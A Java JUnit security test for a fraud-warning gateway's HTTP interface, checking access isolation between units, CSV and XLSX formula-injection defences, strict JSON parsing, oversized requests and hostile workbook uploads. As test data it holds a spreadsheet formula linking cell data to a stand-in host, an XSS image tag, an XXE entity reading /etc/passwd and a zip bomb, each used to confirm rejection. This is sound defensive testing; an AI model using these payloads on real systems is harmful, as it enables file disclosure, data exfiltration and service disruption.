package io.tocsin.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.tocsin.access.user.Role;
import java.io.BufferedReader;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What somebody tries who means harm, over the HTTP door of a wired gateway. */
class SecurityDoorTest {
    private static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://x.example/\"&B2,\"点此\")", "+1+1", "-2+3",
            "@SUM(A1:A9)", "＝1+1", " =1+1", "\u3000=1+1");
    @SuppressWarnings("NullAway.Init") // set before all tests
    private static Doors doors;
    @SuppressWarnings("NullAway.Init") // set before all tests
    private static Caller watchman;

    @BeforeAll
    static void start() {
        doors = Doors.open(Doors.GOOD, "1000/s", Doors.client("centre", "review", ""), 1);
        watchman = doors.as("watchman");
    }

    @AfterAll
    static void stop() {
        doors.close();
    }

    /** Batches have people of all units in them. */
    @Test
    void a_supervisor_of_a_unit_below_sees_no_batches_of_the_whole(@TempDir Path folder) throws IOException {
        String batch = watchman.taken("units", Doors.rows("units", 1));
        Doors.done(watchman, batch);
        String warning = watchman.get("/v1/batches/" + batch + "/warnings").json().at("/items/0/id").asText();
        Caller top = doors.person(folder, "top", Role.SUPERVISOR, null, "呼伦贝尔");
        for (Role role : List.of(Role.SUPERVISOR, Role.DUTY)) {
            Caller below = doors.person(folder, "below-" + role.code(), role, null, "呼伦贝尔/海拉尔");
            for (String path : List.of("/v1/batches/" + batch, "/v1/batches/" + batch + "/warnings",
                    "/v1/batches/" + batch + "/results", "/v1/warnings/" + warning)) {
                assertThat(below.get(path).problem()).as(role + path).isEqualTo("not-found");
                assertThat(top.get(path).status()).as(path).isEqualTo(200);
            }
            assertThat(below.get("/v1/batches").json().path("items")).isEmpty();
            assertThat(found(below, Doors.phone("units", 0))).isZero();
        }
        Caller duty = doors.person(folder, "below-steers", Role.DUTY, null, "呼伦贝尔/海拉尔");
        assertThat(duty.post("/v1/batches/" + batch + "/cancel", "").problem()).isEqualTo("not-found");
        assertThat(found(top, Doors.phone("units", 0))).isEqualTo(1);
    }

    /** How many warnings of a number somebody finds, on however many pages. */
    private static int found(Caller caller, String phone) {
        int found = 0;
        String cursor = "";
        do {
            JsonNode page = caller.post("/v1/warnings/lookup", "{\"phone\":\"" + phone + "\"" + cursor + "}").json();
            found += page.path("items").size();
            cursor = page.path("next").isTextual() ? ",\"cursor\":\"" + page.path("next").asText() + "\"" : "";
        } while (!cursor.isEmpty());
        return found;
    }

    @Test
    void no_text_is_a_formula_in_any_file(@TempDir Path folder) throws IOException {
        StringBuilder rows = new StringBuilder();
        for (int i = 0; i < FORMULAS.size(); i++) {
            String text = FORMULAS.get(i).replace("\"", "\\\"");
            rows.append("{\"ref\":\"").append(text).append("\",\"phone\":\"").append(Doors.phone("formulas", i))
                    .append("\",\"name\":\"").append(text).append("\",\"fraudType\":\"").append(text).append("\"}\n");
        }
        String batch = watchman.taken("formulas", rows.toString());
        Doors.done(watchman, batch);
        String csv = watchman.get("/v1/batches/" + batch + "/results", "Accept", "text/csv").text();
        assertThat(csv.split("\r\n", -1)[0]).startsWith("\ufeffref,");
        assertThat(csv).contains("'+1+1").doesNotContainPattern("(^|[,\"\n\r;\t])\\s*[=+@＝|-][^,]");
        byte[] sheet = watchman.get("/v1/batches/" + batch + "/results", "Accept",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet").response().body();
        assertThat(parts(Files.write(folder.resolve("results.xlsx"), sheet))).contains("+1+1").doesNotContain("<f>",
                "<f ", "externalLink", "dde");
    }

    private static String parts(Path workbook) throws IOException {
        StringBuilder all = new StringBuilder();
        try (ZipFile zip = new ZipFile(workbook.toFile())) {
            for (ZipEntry entry : Collections.list(zip.entries())) {
                all.append(entry.getName()).append('\n')
                        .append(new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return all.toString();
    }

    @Test
    void what_is_said_twice_or_in_no_utf_8_is_no_batch() {
        String row = Doors.row("strict", 0);
        for (String body : List.of("{\"name\":\"a\",\"name\":\"b\",\"warnings\":[" + row + "]}",
                "{\"grade\":\"low\",\"grade\":\"urgent\",\"warnings\":[" + row + "]}",
                "{\"name\":\"\u00c0\u00bc\",\"warnings\":[]}", "{\"name\":\"\u00ff\",\"warnings\":[]}",
                "{\"name\":\"\u00ed\u00a0\u0080\",\"warnings\":[]}")) {
            Caller.Answer answer = watchman.submit("", "application/json", "strict", latin(body));
            assertThat(answer.problem()).as(body + answer).isEqualTo("bad-body");
        }
        assertThat(watchman.submit("grade=low&grade=urgent", "application/x-ndjson", "strict", latin(row)).problem())
                .isEqualTo("bad-parameter");
        List<String> rows = List.of("{\"ref\":\"t1\",\"ref\":\"t2\",\"phone\":\"13800138000\"}",
                "{\"ref\":\"t3\",\"phone\":\"13800138000\",\"name\":\"\u00c0\u00bcb\"}",
                "{\"ref\":\"t4\",\"phone\":\"13800138000\",\"name\":\"\u00ed\u00a0\u0080\"}",
                "{\"ref\":\"t5\",\"phone\":\"13800138000\",\"vars\":{\"a\":\"\",\"a\":\"b\"}}",
                "{\"ref\":\"t6\",\"phone\":\"13800138000\",\"vars\":" + "[".repeat(40) + "]".repeat(40) + "}",
                "{\"ref\":\"t7\",\"phone\":" + "1".repeat(70) + "}");
        Caller.Answer answer = watchman.submit("", "application/x-ndjson", "strict-rows",
                latin(String.join("\n", rows)));
        assertThat(answer.json().path("rejected").asInt()).as(answer.toString()).isEqualTo(rows.size());
        assertThat(answer.json().path("accepted").asInt()).isZero();
    }

    private static byte[] latin(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    @Test
    void amounts_that_are_no_numbers_are_refused(@TempDir Path folder) throws IOException {
        Caller li = doors.person(folder, "li", Role.REVIEWER, null);
        String id = doors.as("centre").post("/v1/review/cases",
                "{\"phone\":\"13800137711\",\"grade\":\"high\",\"reason\":\"<img src=x onerror=alert(1)>\"}").json()
                .path("id").asText();
        JsonNode claim = li.post("/v1/review/cases/" + id + "/claim", "").json();
        for (String amount : List.of("1e999", "-1e999", "1e2147483648", "NaN", "0x10")) {
            Caller.Answer answer = li.post("/v1/review/cases/" + id + "/disposition",
                    "{\"token\":\"" + claim.path("token").asText() + "\",\"disposition\":\"dissuaded\",\"amountSaved\":"
                            + amount + "}");
            assertThat(answer.status()).as(amount + " " + answer).isEqualTo(400);
        }
        assertThat(claim.path("reasons").toString()).contains("<img src=x onerror=alert(1)>");
    }

    @Test
    void what_is_too_long_is_refused_and_the_door_stays_open() throws IOException {
        String much = "x".repeat(20_000);
        for (String head : List.of("GET /v1/batches?cursor=" + much + " HTTP/1.1\r\nHost: a\r\n\r\n",
                "GET /v1/batches HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + much + "\r\n\r\n",
                "GET /health/live HTTP/1.1\r\nHost: a\r\nCookie: tocsin=" + much + "\r\n\r\n",
                "GET /health/live HTTP/1.1\r\nHost: a\r\n" + "A: b\r\n".repeat(9_000) + "\r\n")) {
            assertThat(raw(head)).as(head.substring(0, 40)).matches("HTTP/1.1 4(00|14|31) .*");
        }
        assertThat(watchman.submit("", "application/x-ndjson", "k".repeat(300), latin(Doors.row("long", 1))).problem())
                .isEqualTo("bad-parameter");
        Caller.Answer rows = watchman.submit("long", Doors.row("long", 2).replace("张三", much) + "\n"
                + Doors.row("long", 3).replace("张三", "x".repeat(70_000)) + "\n" + Doors.row("long", 4));
        assertThat(rows.json().path("rejected").asInt()).isEqualTo(2);
        assertThat(rows.json().path("accepted").asInt()).isEqualTo(1);
        assertThat(watchman.get("/v1/batches").status()).isEqualTo(200);
    }

    /** The status line of what answers those bytes. */
    private static String raw(String request) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), doors.httpPort())) {
            socket.setSoTimeout((int) Doors.PATIENCE.toMillis());
            socket.getOutputStream().write(latin(request));
            return new BufferedReader(new InputStreamReader(socket.getInputStream(), StandardCharsets.ISO_8859_1))
                    .readLine();
        }
    }

    private static Caller.Answer upload(String once, byte[] workbook) {
        return watchman.submit("name=sheet", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", once,
                workbook);
    }

    private static byte[] zip(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
            }
        }
        return bytes.toByteArray();
    }

    /** A workbook by hand, its texts behind the cells that use them, as spreadsheets save them. */
    private static Map<String, String> parts(String head, String phone) {
        String main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        String doc = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
        String rels = "http://schemas.openxmlformats.org/package/2006/relationships";
        String types = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
        Map<String, String> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml",
                "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                        + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" + types + "sheet.main+xml\"/>"
                        + "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"" + types
                        + "sharedStrings+xml\"/></Types>");
        parts.put("_rels/.rels", "<Relationships xmlns=\"" + rels + "\"><Relationship Id=\"r1\" Type=\"" + doc
                + "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
        parts.put("xl/workbook.xml", "<workbook xmlns=\"" + main + "\" xmlns:r=\"" + doc
                + "\"><sheets><sheet name=\"1\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
        parts.put("xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"" + rels + "\"><Relationship Id=\"r1\" Type=\""
                + doc + "/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"r2\" Type=\"" + doc
                + "/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>");
        parts.put("xl/worksheets/sheet1.xml", head + "<worksheet xmlns=\"" + main + "\"><sheetData>"
                + "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c></row>"
                + "<row r=\"3\"><c r=\"A3\" t=\"inlineStr\"><is><t>" + (head.isEmpty() ? "sheet-1" : "&a;")
                + "</t></is></c><c r=\"B3\"><v>" + phone + "</v></c></row></sheetData></worksheet>");
        parts.put("xl/sharedStrings.xml",
                "<sst xmlns=\"" + main + "\"><si><t>编号</t></si><si><t>手机号</t></si></sst>");
        return parts;
    }

    @Test
    void a_workbook_is_a_batch_and_one_that_means_harm_is_none() throws IOException {
        byte[] good = zip(parts("", Doors.phone("sheet", 1)));
        Caller.Answer taken = upload("sheet", good);
        assertThat(taken.status()).as(taken.toString()).isEqualTo(202);
        assertThat(taken.json().path("accepted").asInt()).as(taken.toString()).isEqualTo(1);
        assertThat(upload("sheet", good).header("Idempotent-Replayed")).isEqualTo("true");
        Caller.Answer row = upload("sheet-row", zip(parts("", "12")));
        assertThat(row.json().at("/errors/0/index").asInt()).as(row.toString()).isEqualTo(1);
        assertThat(row.json().at("/errors/0/field").asText()).isEqualTo("phone");

        Map<String, String> bomb = parts("", "1");
        bomb.put("xl/sharedStrings.xml", " ".repeat(50 << 20));
        assertThat(upload("bomb", zip(bomb)).text()).contains("bad-body", "unpacks to more than is read");
        Map<String, String> many = parts("", "1");
        for (int i = 0; i < 1_000; i++) {
            many.put("xl/media/" + i, "");
        }
        assertThat(upload("many", zip(many)).text()).contains("bad-body", "parts");
        for (String head : List.of("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x [<!ENTITY a \"aaaa\">]>")) {
            Caller.Answer answer = upload("entity", zip(parts(head, Doors.phone("sheet", 2))));
            assertThat(answer.text()).doesNotContain("root:").contains("bad-body");
        }
        for (byte[] other : List.of(latin("PK"), latin("ref,phone\n"), new byte[0],
                latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"))) {
            assertThat(upload("other", other).problem()).isEqualTo("bad-body");
        }
    }
}
